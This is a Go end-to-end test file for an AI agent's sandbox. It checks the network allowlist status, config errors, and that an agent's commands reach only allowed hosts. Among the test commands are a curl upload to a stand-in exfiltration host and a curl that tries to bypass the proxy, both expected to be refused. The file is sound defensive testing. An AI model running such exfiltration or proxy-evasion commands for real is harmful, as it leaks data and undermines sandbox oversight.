//go:build linux

package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/hermes-go/hermes/llm/llmtest"
)

// networkWorld is a world whose config.yaml is config.
func networkWorld(t *testing.T, config string) world {
	t.Helper()
	w := newWorld(t)
	if err := os.WriteFile(filepath.Join(w.hermesHome, "config.yaml"), []byte(config), 0o644); err != nil {
		t.Fatal(err)
	}
	return w
}

type networkStatus struct {
	Network        string
	NetworkAllowed int      `json:"network_allowed"`
	NetworkAllow   []string `json:"network_allow"`
	Missing        []string
}

func sandboxStatus(t *testing.T, w world) networkStatus {
	t.Helper()
	r := hermesRun(t, []string{"HOME=" + w.home, "HERMES_HOME=" + w.hermesHome}, "", w.home, w.work, "sandbox", "status", "--json")
	var st networkStatus
	if r.code != 0 || json.Unmarshal([]byte(r.stdout), &st) != nil {
		t.Fatalf("%d\n%s%s", r.code, r.stdout, r.stderr)
	}
	return st
}

func TestSandboxStatusShowsTheNetworkAllowlist(t *testing.T) {
	w := networkWorld(t, "approvals:\n  mode: manual\n")
	st := sandboxStatus(t, w)
	if st.Network != "allowlist" {
		t.Skipf("no allowlist on this system: network %q (%v)", st.Network, st.Missing)
	}
	if st.NetworkAllowed < 20 || st.NetworkAllowed != len(st.NetworkAllow) || !slices.Contains(st.NetworkAllow, "registry.npmjs.org") || !slices.Contains(st.NetworkAllow, "github.com") {
		t.Fatalf("default allowlist: %+v", st)
	}
	defaults := st.NetworkAllowed

	w = networkWorld(t, "sandbox:\n  network:\n    allow: [pkg.example.org, \"*.corp.example\"]\n")
	if st := sandboxStatus(t, w); st.NetworkAllowed != defaults+2 || !slices.Contains(st.NetworkAllow, "*.corp.example") {
		t.Fatalf("with sandbox.network.allow: %+v", st)
	}
	w = networkWorld(t, "sandbox:\n  network:\n    mode: allowlist\n    defaults: false\n    allow: [pkg.example.org]\n")
	if st := sandboxStatus(t, w); st.NetworkAllowed != 1 {
		t.Fatalf("without the defaults: %+v", st)
	}
	w = networkWorld(t, "sandbox:\n  network: on\n")
	if st := sandboxStatus(t, w); st.Network != "on" || st.NetworkAllowed != 0 {
		t.Fatalf("network on: %+v", st)
	}
	r := hermesRun(t, []string{"HOME=" + w.home, "HERMES_HOME=" + w.hermesHome}, "", w.home, w.work, "sandbox", "status")
	if r.code != 0 || !strings.Contains(r.stdout, "network         on\n") {
		t.Fatalf("text status: %s%s", r.stdout, r.stderr)
	}
	w = networkWorld(t, "approvals:\n  mode: manual\n")
	r = hermesRun(t, []string{"HOME=" + w.home, "HERMES_HOME=" + w.hermesHome}, "", w.home, w.work, "sandbox", "status")
	if r.code != 0 || !strings.Contains(r.stdout, fmt.Sprintf("network         allowlist of %d hosts", defaults)) {
		t.Fatalf("text status: %s%s", r.stdout, r.stderr)
	}
}

func TestABadNetworkSettingIsAnErrorNamingIt(t *testing.T) {
	w := networkWorld(t, "sandbox:\n  network:\n    mode: sometimes\n    allow: [https://pypi.org/simple]\n")
	r := hermesRun(t, []string{"HOME=" + w.home, "HERMES_HOME=" + w.hermesHome}, "", w.home, w.work, "sandbox", "status")
	if r.code == 0 || !contains(r.stderr, "config.yaml:3: sandbox.network.mode", `"sometimes"`, "config.yaml:4: sandbox.network.allow[0]", "a domain such as") {
		t.Fatalf("exit %d:\n%s%s", r.code, r.stdout, r.stderr)
	}
}

// A command reaches the hosts of the allowlist through the proxy and is
// told why another is refused; one that goes around the proxy reaches
// nothing. The model reads each answer.
func TestACommandReachesOnlyTheAllowlist(t *testing.T) {
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl not installed")
	}
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "served-through-the-proxy")
	}))
	defer ts.Close()
	_, port, _ := net.SplitHostPort(ts.Listener.Addr().String())
	// localhost is the host's here: the proxy resolves and dials it
	// outside the sandbox. --noproxy '' lifts NO_PROXY's loopback.
	w := networkWorld(t, "sandbox:\n  network:\n    allow:\n      - localhost\n")
	if st := sandboxStatus(t, w); st.Network != "allowlist" {
		t.Skipf("no allowlist on this system: %v", st.Missing)
	}
	srv := llmtest.NewServer(t)
	cmds := []string{
		"curl -sS http://exfil.example.net/upload",
		"curl -sS --noproxy '' http://localhost:" + port + "/",
		"curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:" + port + "/",
	}
	srv.Enqueue(terminalCalls(cmds...)...)
	usage := filepath.Join(t.TempDir(), "usage.json")
	r := w.run(t, srv, "--usage-file", usage)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	results := toolResults(srv.Requests()[len(cmds)])
	if len(results) != len(cmds) {
		t.Fatalf("results %q", results)
	}
	if !contains(results[0], "exfil.example.net is not in sandbox.network.allow", "add it to sandbox.network.allow in config.yaml") {
		t.Errorf("refused host: %q", results[0])
	}
	if !strings.Contains(results[1], "served-through-the-proxy") {
		t.Errorf("allowed host: %q", results[1])
	}
	if strings.Contains(results[2], "served-through-the-proxy") || !strings.Contains(results[2], "exit code: 7") {
		t.Errorf("a direct connection reached the host: %q", results[2])
	}
	sb, _ := readUsage(t, usage)["sandbox"].(map[string]any)
	if sb["network"] != "allowlist" || sb["network_allowed"].(float64) < 20 {
		t.Errorf("usage file sandbox = %v", sb)
	}
}
